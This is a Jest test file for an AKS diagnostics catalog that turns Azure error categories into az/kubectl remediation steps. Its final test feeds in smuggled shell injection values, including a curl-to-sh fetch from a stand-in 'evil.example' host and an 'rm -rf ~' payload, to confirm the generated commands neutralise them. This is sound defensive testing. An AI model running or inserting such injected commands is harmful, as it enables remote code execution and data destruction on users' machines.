import { describe, expect, test } from '@jest/globals';
import { CATALOG } from '../../src/core/diagnose/catalog.ts';
import {
  CATEGORIES,
  type Category,
  type Facts,
  type Names,
} from '../../src/core/diagnose/types.ts';

const SUB = '0b1f6471-1bf0-4dda-aec3-cb9272f09590';
const NAMES: Names = {
  subscriptionId: SUB,
  resourceGroup: 'rg-x',
  clusterName: 'aks-x',
  nodePool: 'pool1',
};
const PLACEHOLDERS: Names = {
  subscriptionId: '$SUBSCRIPTION_ID',
  resourceGroup: '$RESOURCE_GROUP',
  clusterName: '$CLUSTER',
  nodePool: '$NODE_POOL',
};

const SUBNET_ID = `/subscriptions/${SUB}/resourceGroups/rg-net/providers/Microsoft.Network/virtualNetworks/vnet-a/subnets/nodes`;
const ASSIGNMENT_ID = `/subscriptions/${SUB}/resourceGroups/rg-x/providers/Microsoft.Authorization/policyAssignments/deny-public-ip`;

/** Facts the classifier would typically pull out of an error of each category. */
const TYPICAL: Record<Category, Facts> = {
  'operation-in-progress': {
    blockingOperation: 'Upgrading',
    pool: 'user',
    operationId: 'fc10e97d-b7a8-4a54-84de-397c45f322e1',
    startTime: '2024-04-08T18:21:31Z',
  },
  'operation-preempted': { operationId: '7d1d8f6c-0000-4000-8000-000000000001' },
  'etag-conflict': { pool: 'user' },
  'cluster-failed-state': { pool: 'user', provisioningState: 'Failed' },
  'invalid-power-state': { powerState: 'Stopped', provisioningState: 'Succeeded', action: 'stop' },
  'pod-drain-failure': {
    pod: 'activator-575c5f4bc9-2s6bx',
    namespace: 'knative-serving',
    pdb: 'activator-pdb',
    node: 'aks-user-36202817-vmss000000',
    pool: 'user',
  },
  'quota-exceeded': {
    quotaLimit: '100',
    quotaUsage: '96',
    quotaRequested: '8',
    vmFamily: 'Standard DSv5 Family',
    location: 'eastus',
  },
  'public-ip-limit': { location: 'westeurope', quotaLimit: '10' },
  'subnet-capacity': { subnet: SUBNET_ID, neededIps: '32', pool: 'user' },
  'allocation-failed': { vmSize: 'Standard_D4s_v5', zone: '1', location: 'eastus' },
  'sku-not-available': { vmSize: 'Standard_D4s_v3', location: 'westus2' },
  'policy-denied': {
    policyAssignment: ASSIGNMENT_ID,
    policyDefinition:
      '/providers/Microsoft.Authorization/policyDefinitions/6c112d4e-5bc7-47ae-a041-ea2d9dccd749',
  },
  'authorization-failed': {
    principal: '30211224-d916-4684-83b8-655fd6b56001',
    action: 'Microsoft.Network/virtualNetworks/subnets/join/action',
    scope: SUBNET_ID,
  },
  'provider-not-registered': { provider: 'Microsoft.OperationsManagement' },
  'subscription-disabled': {},
  'resource-locked': { lock: 'no-delete', scope: `/subscriptions/${SUB}/resourceGroups/rg-x` },
  'service-principal-invalid': {
    aadsts: 'AADSTS7000215',
    principal: 'a1b2c3d4-0000-4000-8000-000000000002',
  },
  'federated-credential': {
    aadsts: 'AADSTS70021',
    issuer: 'https://token.actions.githubusercontent.com',
    subject: 'repo:org/app:ref:refs/heads/main',
    principal: 'b1b2c3d4-0000-4000-8000-000000000003',
  },
  'authentication-failed': { aadsts: 'AADSTS50173' },
  'outbound-connectivity': { exitCode: '50', pool: 'user' },
  'apiserver-connectivity': { exitCode: '51', pool: 'user' },
  'apiserver-dns': { exitCode: '52', subnet: SUBNET_ID },
  'node-bootstrap-failed': { exitCode: '212', node: 'aks-user-1234-vmss000001' },
  'version-not-supported': { targetVersion: '1.20.7', location: 'westeurope' },
  'version-upgrade-not-allowed': {
    currentVersion: '1.28.12',
    targetVersion: '1.30.2',
    availableUpgrades: '[1.29.7 1.29.6 1.29.5 1.29.4 1.29.2 1.29.0]',
  },
  'version-skew': { pool: 'user', currentVersion: '1.27.9', targetVersion: '1.29.2' },
  'deprecated-api-usage': {
    targetVersion: '1.26',
    deprecatedApis: 'flowcontrol.apiserver.k8s.io/v1beta1 prioritylevelconfigurations',
  },
  'node-image-outdated': { pool: 'user' },
  throttled: {},
  'internal-error': { operationId: '3f5c2a10-0000-4000-8000-000000000004' },
  'operation-timeout': { pool: 'user' },
  'network-config-invalid': { subnet: SUBNET_ID },
  'invalid-resource-reference': {
    resource: `/subscriptions/${SUB}/resourceGroups/MC_rg-x_aks-x_eastus/providers/Microsoft.Network/publicIPAddresses/old-ip`,
  },
  'missing-dependency': {},
  'unsupported-operation': { pool: 'agentpool' },
  'autoscaler-conflict': { pool: 'default' },
  'invalid-parameter': { parameter: 'agentpool.Properties.OrchestratorVersion' },
  'run-command-pod-not-started': {},
  'run-command-policy-denied': { policyAssignment: ASSIGNMENT_ID },
  'run-command-forbidden': {
    principal: 'user@contoso.com',
    action: 'list',
    resource: 'namespaces',
  },
  'run-command-msi': {},
  unknown: { operationId: '9a9a9a9a-0000-4000-8000-000000000005' },
};

/** Every fact key any entry might read, all blank: must behave like missing facts. */
const BLANK: Facts = Object.fromEntries(
  [...new Set(Object.values(TYPICAL).flatMap((f) => Object.keys(f)))].map((k) => [k, '  ']),
);

function steps(c: Category, facts: Facts = {}, names: Names = NAMES): string[] {
  return CATALOG[c].remediation(facts, names);
}

function text(c: Category, facts: Facts = {}, names: Names = NAMES): string {
  return steps(c, facts, names).join('\n');
}

function expectClean(s: string): void {
  expect(s).not.toContain('undefined');
  expect(s).not.toContain('[object');
  expect(s).not.toContain('${');
  expect(s).not.toContain('NaN');
  expect(s).not.toMatch(/[\r\n]/);
}

describe('catalog', () => {
  test('has an entry for every category and nothing else', () => {
    expect(Object.keys(CATALOG).sort()).toEqual([...CATEGORIES].sort());
  });

  describe.each([...CATEGORIES])('%s', (c) => {
    const info = CATALOG[c];

    test('has a short title', () => {
      expect(info.title.trim().length).toBeGreaterThan(5);
      expect(info.title.length).toBeLessThanOrEqual(70);
      expect(info.title).not.toMatch(/\.$/);
    });

    test('summarizes with no facts, typical facts and blank facts', () => {
      for (const facts of [{}, TYPICAL[c], BLANK]) {
        const summary = info.summary(facts, NAMES);
        expect(summary.length).toBeGreaterThan(30);
        expect(summary).toMatch(/\.$/);
        expectClean(summary);
      }
    });

    test('gives 3 to 7 one-line steps, clean and with balanced backticks', () => {
      for (const facts of [{}, TYPICAL[c], BLANK]) {
        for (const names of [NAMES, PLACEHOLDERS]) {
          const list = steps(c, facts, names);
          expect(list.length).toBeGreaterThanOrEqual(3);
          expect(list.length).toBeLessThanOrEqual(7);
          for (const s of list) {
            expect(s.trim().length).toBeGreaterThan(10);
            expectClean(s);
            expect((s.match(/`/g) ?? []).length % 2).toBe(0);
          }
        }
      }
    });

    test('includes at least one complete command', () => {
      expect(text(c, TYPICAL[c])).toMatch(/`(az|kubectl) [^`]+`/);
    });

    test('links 1 to 3 distinct https docs', () => {
      expect(info.docs.length).toBeGreaterThanOrEqual(1);
      expect(info.docs.length).toBeLessThanOrEqual(3);
      expect(new Set(info.docs).size).toBe(info.docs.length);
      for (const url of info.docs) expect(url).toMatch(/^https:\/\/\S+$/);
    });

    test('does not crash on facts with line breaks or backticks', () => {
      const odd: Facts = Object.fromEntries(Object.keys(TYPICAL[c]).map((k) => [k, 'a`b\nc']));
      expectClean(info.summary(odd, NAMES));
      for (const s of steps(c, odd)) expectClean(s);
    });
  });
});

describe('names fill the commands', () => {
  const withoutCluster: Category[] = ['provider-not-registered', 'throttled'];
  const needPool: Category[] = [
    'operation-in-progress',
    'cluster-failed-state',
    'invalid-power-state',
    'pod-drain-failure',
    'quota-exceeded',
    'subnet-capacity',
    'allocation-failed',
    'outbound-connectivity',
    'apiserver-connectivity',
    'apiserver-dns',
    'node-bootstrap-failed',
    'version-skew',
    'node-image-outdated',
    'internal-error',
    'missing-dependency',
    'autoscaler-conflict',
    'run-command-pod-not-started',
  ];
  const needSubscription: Category[] = [
    'operation-in-progress',
    'operation-preempted',
    'cluster-failed-state',
    'quota-exceeded',
    'public-ip-limit',
    'policy-denied',
    'provider-not-registered',
    'subscription-disabled',
    'internal-error',
    'operation-timeout',
    'run-command-policy-denied',
    'run-command-forbidden',
    'unknown',
  ];

  test.each(CATEGORIES.filter((c) => !withoutCluster.includes(c)))(
    '%s uses the resource group and cluster',
    (c) => {
      const t = text(c);
      expect(t).toContain('rg-x');
      expect(t).toContain('aks-x');
      const p = text(c, {}, PLACEHOLDERS);
      expect(p).toContain('$RESOURCE_GROUP');
      expect(p).toContain('$CLUSTER');
    },
  );

  test.each(needPool)('%s uses the node pool', (c) => {
    expect(text(c)).toContain('pool1');
    expect(text(c, {}, PLACEHOLDERS)).toContain('$NODE_POOL');
  });

  test.each(needSubscription)('%s uses the subscription', (c) => {
    expect(text(c)).toContain(SUB);
    expect(text(c, {}, PLACEHOLDERS)).toContain('$SUBSCRIPTION_ID');
  });

  test('the pool named in the error wins over the run pool', () => {
    const t = text('node-image-outdated', { pool: 'gpu' });
    expect(t).toContain('-n gpu --node-image-only');
    expect(t).not.toContain('pool1');
    expect(text('autoscaler-conflict', { pool: 'gpu' })).toContain(
      '-n gpu --disable-cluster-autoscaler',
    );
  });

  test('throttled names the subscription in its summary', () => {
    expect(CATALOG.throttled.summary({}, NAMES)).toContain(SUB);
    expect(CATALOG['subscription-disabled'].summary({}, NAMES)).toContain(SUB);
  });
});

describe('retryable', () => {
  const retryable = new Set<Category>([
    'operation-in-progress',
    'operation-preempted',
    'etag-conflict',
    'throttled',
    'internal-error',
    'operation-timeout',
    'allocation-failed',
  ]);

  test.each([...CATEGORIES])('%s', (c) => {
    expect(CATALOG[c].retryable).toBe(retryable.has(c));
  });
});

describe('summaries use the facts', () => {
  test('quota-exceeded with every number', () => {
    expect(CATALOG['quota-exceeded'].summary(TYPICAL['quota-exceeded'], NAMES)).toBe(
      'The vCPU quota for Standard DSv5 Family in eastus is 100 and 96 are in use; the operation needed 8 more.',
    );
  });

  test('quota-exceeded with some or none of the numbers', () => {
    expect(
      CATALOG['quota-exceeded'].summary({ quotaLimit: '10', location: 'swedencentral' }, NAMES),
    ).toContain('regional vCPU quota in swedencentral, which is 10');
    expect(CATALOG['quota-exceeded'].summary({}, NAMES)).toContain('regional vCPU quota');
  });

  test('quota-exceeded asks for usage plus the request', () => {
    const t = text('quota-exceeded', TYPICAL['quota-exceeded']);
    expect(t).toContain('az vm list-usage -l eastus -o table');
    expect(t).toContain(
      `az quota update --resource-name standardDSv5Family --scope /subscriptions/${SUB}/providers/Microsoft.Compute/locations/eastus --limit-object value=104`,
    );
  });

  test('operation-in-progress names the operation, the pool and its ID', () => {
    const s = CATALOG['operation-in-progress'].summary(TYPICAL['operation-in-progress'], NAMES);
    expect(s).toContain('Upgrading');
    expect(s).toContain('node pool user');
    expect(s).toContain('fc10e97d-b7a8-4a54-84de-397c45f322e1');
  });

  test('pod-drain-failure names pod, budget and node, and fills the commands', () => {
    const f = TYPICAL['pod-drain-failure'];
    const s = CATALOG['pod-drain-failure'].summary(f, NAMES);
    expect(s).toContain('knative-serving/activator-575c5f4bc9-2s6bx');
    expect(s).toContain('activator-pdb');
    expect(s).toContain('aks-user-36202817-vmss000000');
    expect(text('pod-drain-failure', f)).toContain(
      'kubectl get pdb activator-pdb -n knative-serving -o yaml',
    );
  });

  test('version-upgrade-not-allowed steps to the highest available version', () => {
    const f = {
      ...TYPICAL['version-upgrade-not-allowed'],
      availableUpgrades: '1.29.2, 1.29.10, 1.29.9',
    };
    const t = text('version-upgrade-not-allowed', f);
    expect(t).toContain('az aks upgrade -g rg-x -n aks-x --kubernetes-version 1.29.10');
    expect(t).toContain('1.30.2');
    const s = CATALOG['version-upgrade-not-allowed'].summary(
      TYPICAL['version-upgrade-not-allowed'],
      NAMES,
    );
    expect(s).toContain('from 1.28.12 to 1.30.2');
    expect(s).toContain('1.29.7');
  });

  test('operation-preempted looks up the operation by its ID', () => {
    expect(text('operation-preempted', TYPICAL['operation-preempted'])).toContain(
      `/operations/7d1d8f6c-0000-4000-8000-000000000001?api-version=`,
    );
    expect(
      CATALOG['operation-preempted'].summary({ blockingOperation: 'Deleting' }, NAMES),
    ).toMatch(/delete/);
  });

  test('authorization-failed grants a role that fits the action on the scope', () => {
    const t = text('authorization-failed', TYPICAL['authorization-failed']);
    expect(t).toContain(
      `az role assignment create --assignee 30211224-d916-4684-83b8-655fd6b56001 --role "Network Contributor" --scope ${SUBNET_ID}`,
    );
    const dns = text('authorization-failed', {
      action: 'Microsoft.Network/privateDnsZones/write',
    });
    expect(dns).toContain('"Private DNS Zone Contributor"');
  });

  test('policy-denied shows the assignment at its own scope', () => {
    const t = text('policy-denied', TYPICAL['policy-denied']);
    expect(t).toContain(
      `az policy assignment show --name deny-public-ip --scope /subscriptions/${SUB}/resourceGroups/rg-x`,
    );
    expect(t).toContain('az policy definition show --name 6c112d4e-5bc7-47ae-a041-ea2d9dccd749');
    expect(t).toContain(`--policy-assignment ${ASSIGNMENT_ID}`);
  });

  test('subnet facts become subnet and VNet commands', () => {
    const t = text('subnet-capacity', TYPICAL['subnet-capacity']);
    expect(t).toContain(`az network vnet subnet show --ids ${SUBNET_ID}`);
    expect(t).toContain('az network vnet subnet create -g rg-net --vnet-name vnet-a');
    expect(CATALOG['subnet-capacity'].summary(TYPICAL['subnet-capacity'], NAMES)).toContain(
      'Subnet nodes',
    );
    expect(text('apiserver-dns', TYPICAL['apiserver-dns'])).toContain(
      'az network vnet show -g rg-net -n vnet-a --query dhcpOptions.dnsServers',
    );
  });

  test('federated-credential tells an expired assertion from a mismatch', () => {
    const fc = CATALOG['federated-credential'];
    expect(fc.summary({ aadsts: 'AADSTS700024' }, NAMES)).toMatch(/expired/);
    const s = fc.summary(TYPICAL['federated-credential'], NAMES);
    expect(s).toContain('https://token.actions.githubusercontent.com');
    expect(s).toContain('repo:org/app:ref:refs/heads/main');
  });

  test('outbound-connectivity explains the CSE exit code', () => {
    const s = (code: string): string =>
      CATALOG['outbound-connectivity'].summary({ exitCode: code }, NAMES);
    expect(s('50')).toMatch(/exit code 50.*outbound/);
    expect(s('41')).toMatch(/CNI/);
    expect(s('31')).toMatch(/Kubernetes binaries/);
    expect(s('124')).toMatch(/timed out/);
  });

  test('run-command-forbidden checks the refused verb and resource', () => {
    expect(text('run-command-forbidden', TYPICAL['run-command-forbidden'])).toContain(
      'kubectl auth can-i list namespaces --as user@contoso.com',
    );
  });
});

// Seed 000: cluster pending operation (OperationNotAllowed) errors.
describe('seed 000: another operation is in progress', () => {
  const t = text('operation-in-progress');

  test('check provisioningState first', () => {
    expect(t).toContain('az aks show -g rg-x -n aks-x --query provisioningState -o tsv');
  });
  test('actively updating: wait until the operation finishes', () => {
    expect(t).toMatch(/still updating[^\n]*wait until the operation finishes/);
  });
  test('update failed: locate the reason in the activity logs', () => {
    expect(t).toMatch(
      /failed[^\n]*activity log[^\n]*az monitor activity-log list --resource-group rg-x/,
    );
  });
  test('update succeeded: retry the operation', () => {
    expect(t).toMatch(/succeeded, retry/);
  });
  test('points to aka.ms/aks-pending-operation and the aks-guard knob', () => {
    expect(CATALOG['operation-in-progress'].docs).toContain('https://aka.ms/aks-pending-operation');
    expect(t).toContain('on-pending: wait');
    expect(t).toContain('on-pending: abort');
  });
});

// Seed 001: abort a long running operation.
describe('seed 001: aborting operations', () => {
  test('operations/latest shows percentComplete', () => {
    const t = text('operation-in-progress');
    expect(t).toMatch(/percentComplete/);
    expect(t).toContain(
      `az rest --method get --url "/subscriptions/${SUB}/resourceGroups/rg-x/providers/Microsoft.ContainerService/managedClusters/aks-x/operations/latest?api-version=2024-01-02-preview"`,
    );
  });
  test('abort on the cluster or on the pool, no rollback, Canceled', () => {
    const t = text('operation-in-progress');
    expect(t).toContain('az aks operation-abort -g rg-x -n aks-x');
    expect(t).toContain('az aks nodepool operation-abort -g rg-x --cluster-name aks-x -n pool1');
    expect(t).toMatch(/no rollback/);
    expect(t).toMatch(/Canceled/);
  });
  test('the pool from the error is aborted where it runs', () => {
    const t = text('operation-in-progress', { pool: 'user' });
    expect(t).toContain('az aks nodepool operation-abort -g rg-x --cluster-name aks-x -n user');
    expect(t).toContain('/agentPools/user/operations/latest?api-version=');
  });
  test('a client timeout re-checks and can abort', () => {
    const t = text('operation-timeout');
    expect(t).toMatch(/percentComplete/);
    expect(t).toContain('az aks operation-abort -g rg-x -n aks-x');
  });
});

// Seed 002: cluster or node in a failed state; its two tables and the reconcile note.
describe('seed 002: failed state, common errors table', () => {
  test('OutboundConnFailVMExtensionError: NSG and firewall, required endpoints', () => {
    const t = text('outbound-connectivity', { exitCode: '50' });
    expect(t).toMatch(/network security group \(NSG\)/);
    expect(t).toMatch(/firewall/);
    for (const url of [
      'https://aka.ms/aks/outbound',
      'https://aka.ms/aks/ssh',
      'https://aka.ms/aks/agent',
      'https://aka.ms/aks/containerinsights',
    ])
      expect(t).toContain(url);
  });
  test('Drain error: pod status and events, force delete stuck pods', () => {
    const t = text('pod-drain-failure', TYPICAL['pod-drain-failure']);
    expect(t).toContain('kubectl get pods --all-namespaces -o wide');
    expect(t).toContain('kubectl describe pod activator-575c5f4bc9-2s6bx -n knative-serving');
    expect(t).toMatch(/--grace-period=0 --force/);
  });
  test('SubscriptionNotRegistered: az provider register Microsoft.ContainerService', () => {
    expect(text('provider-not-registered')).toContain(
      'az provider register --namespace Microsoft.ContainerService',
    );
    expect(
      text('provider-not-registered', { provider: 'Microsoft.OperationsManagement' }),
    ).toContain('az provider register --namespace Microsoft.OperationsManagement');
  });
  test('RequestDisallowedByPolicy: review assignment and scope, modify or exclude', () => {
    const t = text('policy-denied', TYPICAL['policy-denied']);
    expect(t).toMatch(/policy assignment and its scope/);
    expect(t).toMatch(/modify the assignment or exclude/);
    expect(t).toContain('az policy exemption create');
  });
  test('QuotaExceeded: check usage and limit, delete unused or request an increase', () => {
    const t = text('quota-exceeded', TYPICAL['quota-exceeded']);
    expect(t).toMatch(/usage and limit/);
    expect(t).toContain('az vm list-usage');
    expect(t).toMatch(/delete unused/);
    expect(t).toMatch(/quota increase/);
  });
  test('PublicIPCountLimitReached: check usage and limit, delete unused IPs or request more', () => {
    const t = text('public-ip-limit', TYPICAL['public-ip-limit']);
    expect(t).toContain('az network list-usages -l westeurope -o table');
    expect(t).toMatch(/Delete public IPs nobody uses/);
    expect(t).toMatch(/request a higher limit/);
  });
  test('OverconstrainedAllocationRequest: check the VM size in the region, other size or region', () => {
    const t = text('allocation-failed', TYPICAL['allocation-failed']);
    expect(t).toContain('az vm list-skus -l eastus --size Standard_D4s_v5');
    expect(t).toMatch(/different VM size/);
    expect(t).toMatch(/different region/);
  });
  test('ReadOnlyDisabledSubscription: review the subscription (billing, credit, policy)', () => {
    const t = text('subscription-disabled');
    expect(t).toMatch(/Review the subscription/);
    expect(t).toMatch(/overdue bill/);
    expect(t).toMatch(/free trial or credit/);
    expect(t).toMatch(/policy violation/);
  });
  test('SubnetIsFull: a larger subnet and a new node pool in it', () => {
    const t = text('subnet-capacity');
    expect(t).toMatch(/larger subnet/);
    expect(t).toContain('az network vnet subnet create');
    expect(t).toContain(
      'az aks nodepool add -g rg-x --cluster-name aks-x -n $NEW_POOL --vnet-subnet-id',
    );
    expect(t).toContain('az aks nodepool delete -g rg-x --cluster-name aks-x -n pool1');
  });
  test('K8SAPIServerConnFailVMExtensionError (51): API server connection check', () => {
    const t = text('apiserver-connectivity', { exitCode: '51' });
    expect(t).toMatch(/nc -vz -w 5 \$API_SERVER_FQDN 443/);
    expect(t).toMatch(/authorized IP ranges/);
  });
  test('K8SAPIServerDNSLookupFailVMExtensionError (52): DNS check and forwarding to Azure DNS', () => {
    const t = text('apiserver-dns', { exitCode: '52' });
    expect(t).toMatch(/nslookup \$API_SERVER_FQDN/);
    expect(t).toMatch(/168\.63\.129\.16/);
    expect(t).toContain('az network private-dns link vnet create');
  });
  test('AllocationFailed: retry later, capacity may come back', () => {
    expect(text('allocation-failed')).toMatch(/Retry later/);
  });
});

describe('seed 002: failed state, other issues table', () => {
  test('subnet too small: new node pool with a larger subnet', () => {
    expect(text('subnet-capacity')).toMatch(/new node pool in the larger subnet/);
  });
  test('virtual network blocked: allow node traffic on the firewall, DNS resolution to Azure', () => {
    expect(text('outbound-connectivity')).toMatch(/Allow the node traffic on the firewall/);
    expect(text('apiserver-dns')).toMatch(/Set up DNS resolution to Azure/);
  });
  test('PDB problems: remove the PDB temporarily, reconcile, add it back', () => {
    const t = text('pod-drain-failure');
    expect(t).toContain('kubectl delete pdb $PDB -n $NAMESPACE');
    expect(t).toContain('az aks nodepool update -g rg-x --cluster-name aks-x -n pool1');
    expect(t).toContain('kubectl apply -f pdb-backup.yaml');
  });
  test('infrastructure issues: reconcile each node pool and the cluster', () => {
    for (const c of ['internal-error', 'cluster-failed-state'] as const) {
      const t = text(c);
      expect(t).toContain('az aks nodepool update -g rg-x --cluster-name aks-x -n pool1');
      expect(t).toContain('az aks update -g rg-x -n aks-x');
    }
  });
  test('API server errors: report to AKS support', () => {
    expect(text('internal-error')).toMatch(/AKS support/);
    expect(text('apiserver-connectivity')).toMatch(/AKS support/);
  });
  test('reconcile with az resource update on the cluster ID', () => {
    expect(text('cluster-failed-state')).toContain(
      `az resource update --ids /subscriptions/${SUB}/resourceGroups/rg-x/providers/Microsoft.ContainerService/managedClusters/aks-x`,
    );
  });
  test('failed cluster: activity log; failed node: update the scale set instance', () => {
    const t = text('cluster-failed-state');
    expect(t).toContain('az monitor activity-log list --resource-group rg-x');
    expect(t).toContain('az vmss update-instances');
    expect(t).toContain('on-failed: reconcile');
  });
  test('failed node pool: scale set instances, quota and locks', () => {
    const t = text('cluster-failed-state');
    expect(t).toContain('az vmss list-instances');
    expect(t).toContain('az vm list-usage');
    expect(t).toContain('az lock list -g rg-x');
  });
  test('resource lock: list, remove, and the scale-down issue', () => {
    const t = text('resource-locked', TYPICAL['resource-locked']);
    expect(t).toContain('az lock list -g rg-x -o table');
    expect(t).toContain('az lock delete --name no-delete -g rg-x');
    expect(CATALOG['resource-locked'].docs).toContain('https://github.com/Azure/AKS/issues/3291');
  });
});

// Seed 003: az aks command invoke failures.
describe('seed 003: run command failures', () => {
  test('cause 1, pod not started: more nodes without taints, adjust requests and limits', () => {
    const t = text('run-command-pod-not-started');
    expect(t).toMatch(/Increase the node pool size/);
    expect(t).toMatch(/taints/);
    expect(t).toMatch(/resource requests and limits/);
    expect(t).toContain('az aks nodepool scale -g rg-x --cluster-name aks-x -n pool1');
  });
  test('cause 2, policy: exempt the aks-command namespace', () => {
    const t = text('run-command-policy-denied', TYPICAL['run-command-policy-denied']);
    expect(t).toMatch(/Namespace exclusions/);
    expect(t).toContain(
      `az policy exemption create --name ExemptAksCommand --policy-assignment ${ASSIGNMENT_ID}`,
    );
    expect(t).toContain('kubectl get pods -n aks-command -o yaml');
  });
  test('cause 3, roles: runCommand/action, commandResults/read, cluster user role', () => {
    const t = text('run-command-forbidden', TYPICAL['run-command-forbidden']);
    expect(t).toContain('Microsoft.ContainerService/managedClusters/runCommand/action');
    expect(t).toContain('Microsoft.ContainerService/managedClusters/commandResults/read');
    expect(t).toContain(
      `az role assignment create --assignee user@contoso.com --role "Azure Kubernetes Service Cluster User Role" --scope /subscriptions/${SUB}/resourceGroups/rg-x/providers/Microsoft.ContainerService/managedClusters/aks-x`,
    );
  });
  test('cause 4, Cloud Shell MSI: az login first, or run locally', () => {
    const t = text('run-command-msi');
    expect(t).toMatch(/`az login` first/);
    expect(t).toContain('az aks command invoke -g rg-x -n aks-x --command "kubectl get pods"');
    expect(t).toMatch(/local computer or a virtual machine/);
  });
  test('all four link the command invoke article', () => {
    for (const c of [
      'run-command-pod-not-started',
      'run-command-policy-denied',
      'run-command-forbidden',
      'run-command-msi',
    ] as const)
      expect(CATALOG[c].docs).toContain(
        'https://learn.microsoft.com/troubleshoot/azure/azure-kubernetes/connectivity/resolve-az-aks-command-invoke-failures',
      );
  });
});

describe('aks-guard knobs', () => {
  test('failed state points to on-failed: reconcile, throttling to the automatic back-off', () => {
    expect(text('cluster-failed-state')).toContain('on-failed: reconcile');
    expect(text('throttled')).toMatch(/aks-guard backs off automatically/);
    expect(text('node-image-outdated')).toContain('operation: upgrade-node-image');
    expect(text('operation-timeout')).toContain('on-timeout: abort');
  });
});

describe('unknown', () => {
  test('gives generic but useful steps', () => {
    const t = text('unknown');
    expect(t).toMatch(/innermost error code/);
    expect(t).toContain('/operations/latest?api-version=');
    expect(t).toContain('az aks show -g rg-x -n aks-x -o table');
    expect(t).toContain('az monitor activity-log list --resource-group rg-x --offset 1h');
  });
});

describe('facts from Azure in copyable commands', () => {
  test('cannot inject shell syntax', () => {
    const hostile = {
      pod: 'web-1$(curl evil.example|sh)',
      namespace: 'shop;rm -rf ~',
      policyAssignment: 'deny"; curl evil #',
      subnet: 'sn`id`',
    };
    const names = {
      subscriptionId: 'sub',
      resourceGroup: 'rg',
      clusterName: 'aks',
      nodePool: 'user',
    };
    for (const category of ['pod-drain-failure', 'policy-denied', 'subnet-capacity'] as const) {
      const steps = CATALOG[category].remediation(hostile, names).join('\n');
      // The payloads may survive as inert words, never with the shell syntax around them.
      expect(steps).not.toMatch(/\$\(curl|;\s*rm|"; curl|`id`|\|sh/);
    }
  });
});
